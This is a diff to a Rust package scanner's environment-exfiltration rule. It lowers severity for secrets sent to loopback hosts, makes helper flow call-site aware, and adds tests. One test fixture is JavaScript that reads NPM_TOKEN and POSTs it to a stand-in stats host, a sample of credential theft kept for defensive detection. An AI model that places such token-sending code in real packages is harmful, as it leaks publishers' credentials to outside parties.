@@ -42,7 +42,10 @@ diligence_finding::declare_rule! {
     /// `GITHUB_TOKEN`, `ACTIONS_RUNTIME_TOKEN`, the OIDC request token, `CI_JOB_TOKEN` — sent to a constant host that
     /// is not the CI provider's own, critical from install-time code: a tool that posts the runner's token to its own
     /// SaaS is reported); low in a cloud credential provider whose only
-    /// destination is the instance-metadata endpoint (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` is its path there).
+    /// destination is the instance-metadata endpoint (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI` is its path there);
+    /// low when it goes to the loopback host (`ws://localhost:<port>`, a browser's DevTools socket that
+    /// puppeteer drives): it does not leave the machine. Paths through a helper shared by many callers no longer
+    /// join one caller's argument to another caller's result (call-site-aware flow).
     pub static ENV_EXFILTRATION = { id: "code/env-exfiltration", severity: Severity::Critical };
 }
 
@@ -102,6 +105,11 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
         .take(20)
         .map(|path| {
             let sev = match path.source {
+                // Sent to this machine's own server (a browser's DevTools socket on
+                // `ws://localhost:<port>`): it does not leave the machine.
+                _ if path.sink == SinkKind::Network && loopback(path.dest.as_deref()) => {
+                    Severity::Low
+                }
                 // npm-style configuration (`npm_config_*` variables) sent to the package
                 // registry is how package managers authenticate, not exfiltration.
                 SourceKind::EnvAll if package_registry(path.dest.as_deref()) => Severity::Medium,
@@ -152,6 +160,19 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
             )
         })
         .collect()
+}
+
+/// True when `dest` (a URL or host) names the loopback host: `localhost`, `127.x.x.x`, `[::1]`.
+fn loopback(dest: Option<&str>) -> bool {
+    let Some(d) = dest else { return false };
+    let rest = d.split_once("://").map_or(d, |(_, r)| r);
+    let host = if let Some(v6) = rest.strip_prefix('[') {
+        v6.split(']').next().unwrap_or("")
+    } else {
+        rest.split([':', '/', '?', '#']).next().unwrap_or("")
+    };
+    let host = host.to_ascii_lowercase();
+    host == "localhost" || host == "::1" || host.starts_with("127.") && !host.contains('@')
 }
 
 /// True when the path's source is a computed `process.env[name]` read in a function that
@@ -329,6 +350,52 @@ mod tests {
 
     /// Benign look-alike: a logger (bundled `debug`) that lists the environment's names for a
     /// prefix and prints a message whose template ends in a request.
+    /// A bundle's shared helper (a string trimmer) takes the npm token at one call and the
+    /// request body at another: the token goes back only to its own call, not into the
+    /// body that is sent (function summaries are call-site aware).
+    #[test]
+    fn negative_shared_helper_does_not_join_its_callers() {
+        let code = "function clean(s) { return String(s).trim(); }\nconst token = clean(process.env.NPM_TOKEN || '');\nconst body = clean(JSON.stringify({ name: 'x', version: '1.0.0' }));\nexports.ping = () => fetch('https://stats.example.com/v1', { method: 'POST', body: body });\nexports.hasToken = () => token.length > 0;\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        assert!(
+            hits(&s, "code/env-exfiltration").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// puppeteer's shape: a browser-launch variable reaches the DevTools socket on
+    /// `ws://localhost:<port>`: the data stays on the machine, a low finding.
+    #[test]
+    fn negative_secret_sent_to_the_local_devtools_socket() {
+        let code = "const WebSocket = require('ws');\nexports.connect = (port) => {\n  const ws = new WebSocket('ws://localhost:' + port + '/devtools/browser');\n  ws.on('open', () => ws.send(JSON.stringify({ method: 'Browser.setDownloadBehavior', params: { path: process.env.PUPPETEER_DOWNLOAD_TOKEN } })));\n};\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| f.severity)
+            .collect();
+        assert_eq!(sev, vec![diligence_finding::Severity::Low]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+        assert!(super::loopback(Some("ws://localhost:")));
+        assert!(super::loopback(Some("http://127.0.0.1:9222/json")));
+        assert!(super::loopback(Some("http://[::1]:80/")));
+        assert!(!super::loopback(Some("https://localhost.evil.example/")));
+        assert!(!super::loopback(Some("https://api.example.com/")));
+    }
+
+    /// The same helper whose result really is sent: still a path.
+    #[test]
+    fn positive_shared_helper_result_sent() {
+        let code = "function clean(s) { return String(s).trim(); }\nconst token = clean(process.env.NPM_TOKEN || '');\nconst body = clean(JSON.stringify({ name: 'x', t: token }));\nexports.ping = () => fetch('https://stats.example.com/v1', { method: 'POST', body: body });\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("index.js".to_string(), 4)]
+        );
+    }
+
     #[test]
     fn negative_key_prefix_filter_then_template() {
         let s = scan(&[
